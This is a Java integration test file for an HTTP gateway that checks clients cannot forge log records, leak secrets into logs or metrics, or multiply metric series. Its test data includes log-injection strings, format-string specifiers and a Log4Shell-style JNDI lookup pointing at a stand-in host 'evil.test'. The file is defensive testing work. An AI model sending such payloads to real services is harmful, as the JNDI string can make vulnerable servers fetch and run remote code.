package dev.sallyport.hostile;

import static dev.sallyport.hostile.Messages.get;
import static dev.sallyport.hostile.Messages.head;
import static dev.sallyport.hostile.Messages.request;
import static org.assertj.core.api.Assertions.assertThat;

import dev.sallyport.testing.LogLine;
import dev.sallyport.testing.Octets;
import dev.sallyport.testing.RawClient;
import dev.sallyport.testing.RecordingUpstream;
import java.io.IOException;
import java.util.List;
import java.util.Locale;
import java.util.SplittableRandom;
import java.util.stream.Stream;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.extension.RegisterExtension;

/// Threats LG-01, LG-02, LG-03 and LG-05: what clients send must not forge, reveal or multiply records.
class LogSafetyIT {
    @RegisterExtension
    static final Arena ARENA = Arena.ofOneRoute();

    private static final List<String> FORGERIES = List.of(
            "\",\"gateway.decision\":\"allowed\",\"x\":\"",
            "\\\",\\\"a\\\":\\\"",
            "\\",
            "\\u0000",
            "{}{}",
            "${jndi:ldap://evil.test/a}",
            "%n%n%s%x",
            "\t\t",
            "\u00e2\u0080\u00a8\u00e2\u0080\u00a9",
            "\u009b31m",
            "\u00ff\u00fe",
            "\u00c0\u00ae",
            "\u00f0\u009f\u0098\u0080",
            "\u00ed\u00a0\u0080");

    @TestFactory
    Stream<DynamicTest> LG_01_noFieldForgesARecord() {
        return FORGERIES.stream()
                .flatMap(forgery -> Stream.of(
                                get("/", "User-Agent: " + forgery),
                                get("/", "Referer: " + forgery),
                                get("/", "X-Forwarded-For: " + forgery),
                                get("/?" + escaped(forgery)),
                                get("/" + escaped(forgery)),
                                head("GET / HTTP/1.1", "Host: " + forgery))
                        .map(octets ->
                                DynamicTest.dynamicTest(Octets.visible(octets), () -> assertOneCleanLine(octets))));
    }

    private static String escaped(String forgery) {
        StringBuilder escaped = new StringBuilder();
        for (byte octet : Octets.of(forgery)) {
            escaped.append(String.format("%%%02X", octet & 0xff));
        }
        return escaped.toString();
    }

    private static void assertOneCleanLine(String octets) throws IOException {
        int before = ARENA.gateway().log().size();
        try (RawClient client = ARENA.client()) {
            client.exchange(octets);
            LogLine line = ARENA.gateway().awaitLogOf(client);
            assertThat(line.text().chars()).allMatch(c -> c >= 0x20 && c != 0x7f && !(c >= 0x80 && c < 0xa0));
            assertThat(line.text()).doesNotContain("\u2028", "\u2029");
            assertThat(line.fields()).doesNotContainKeys("x", "a");
        }
        assertThat(ARENA.gateway().log()).hasSize(before + 1);
    }

    @Test
    void LG_01_noUpstreamForgesARecord() throws IOException {
        ARENA.upstream().answer(request -> "HTTP/1.1 200 \",\"a\":\"\r\nX: \",\"a\":\"\r\nContent-Length: 0\r\n\r\n");
        assertOneCleanLine(get("/"));
    }

    @Test
    void LG_02_noSecretIsWrittenAnywhere() throws IOException {
        String canary = "canary0secret";
        ARENA.upstream()
                .answer(request ->
                        "HTTP/1.1 200 OK\r\nSet-Cookie: sid=" + canary + "\r\nContent-Length: 13\r\n\r\n" + canary);
        String[] slots = {
            "Authorization: Bearer " + canary,
            "Cookie: sid=" + canary,
            "X-Api-Key: " + canary,
            "DPoP: " + canary,
            "Proxy-Authorization: Basic " + canary,
            "X-Access-Token: " + canary,
            "X-Other: " + canary
        };
        String query = "?token=" + canary + "&access_token=" + canary + "&code=" + canary + "&api_key=" + canary
                + "&password=" + canary + "&client_secret=" + canary + "&refresh_token=" + canary + "&state=" + canary
                + "&id_token=" + canary + "&key=" + canary;
        try (RawClient client = ARENA.client()) {
            client.exchange(request("GET", "/secret" + query, slots));
            client.exchange(request("POST", "/secret", "Content-Length: " + canary.length()) + canary);
            ARENA.gateway().awaitLogOf(client, 2);
        }
        for (String broken : List.of(
                get("/", "Authorization: Bearer " + canary, "Authorization: Bearer " + canary),
                get("/", "Authorization : Bearer " + canary),
                get("/", "Cookie: " + canary + "\0"),
                get("http://user:" + canary + "@gateway.test/"),
                "GET / HTTP/" + canary + "\r\n\r\n")) {
            try (RawClient client = ARENA.client()) {
                assertThat(client.exchange(broken).body()).doesNotContain(canary);
                ARENA.gateway().awaitLogOf(client);
            }
        }
        assertThat(ARENA.gateway().logText()).doesNotContain(canary);
        assertThat(ARENA.gateway().events()).doesNotContain(canary);
        assertThat(ARENA.gateway().metrics()).doesNotContain(canary);
        assertThat(ARENA.gateway().admin("/config").body()).doesNotContain(canary);
    }

    @Test
    void LG_02_theAdminTokenIsWrittenNowhere() throws IOException {
        String token = ARENA.gateway().gateway().adminToken();
        assertThat(ARENA.gateway().metrics()).doesNotContain(token);
        assertThat(ARENA.gateway().admin("/config").body()).doesNotContain(token);
        assertThat(ARENA.gateway().logText()).doesNotContain(token);
    }

    @Test
    void LG_05_clientsMakeNoSeries() throws IOException {
        ARENA.upstream().answer(request -> RecordingUpstream.ok("x"));
        probe("/warm-up", "gateway.test");
        long before = series();
        for (int i = 0; i < 200; i++) {
            probe("/random-" + i + "?x=" + i, "host-" + i + ".test");
        }
        assertThat(series()).isEqualTo(before);
    }

    @Test
    void LG_05_neitherMethodsNorFieldsNorCredentialsMakeSeries() throws IOException {
        ARENA.upstream().answer(request -> RecordingUpstream.ok("x"));
        SplittableRandom random = new SplittableRandom(11);
        oddities(random, 300);
        long before = series();
        oddities(random, 3_000);
        assertThat(series()).isLessThanOrEqualTo(before);
    }

    /// Requests that differ in everything that a client can choose.
    private static void oddities(SplittableRandom random, int count) throws IOException {
        for (int done = 0; done < count; done += 100) {
            try (RawClient client = ARENA.client()) {
                StringBuilder many = new StringBuilder();
                for (int i = 0; i < 100; i++) {
                    String noise = Integer.toString(random.nextInt(1 << 30), 36).toUpperCase(Locale.ROOT);
                    // the last has a method that nobody knows
                    String method = i == 99 ? "M" + noise.replaceAll("[0-9]", "") : i % 2 == 0 ? "GET" : "DELETE";
                    many.append(request(
                            method,
                            "/" + noise + "/" + i + "?" + noise + "=" + noise,
                            "User-Agent: " + noise,
                            "X-" + noise + ": " + noise,
                            "Authorization: Bearer " + noise,
                            "Cookie: " + noise + "=" + noise,
                            "X-Forwarded-For: 203.0.113." + i,
                            "X-Request-Id: " + noise,
                            i == 99 ? "Connection: close" : "X-Last: no"));
                }
                client.send(many.toString());
                client.rest();
            }
        }
    }

    private static void probe(String target, String host) throws IOException {
        try (RawClient client = ARENA.client()) {
            client.exchange(head("GET " + target + " HTTP/1.1", "Host: " + host));
            ARENA.gateway().awaitLogOf(client);
        }
    }

    private static long series() throws IOException {
        return ARENA.gateway()
                .metrics()
                .lines()
                .filter(line -> !line.startsWith("#"))
                .count();
    }
}
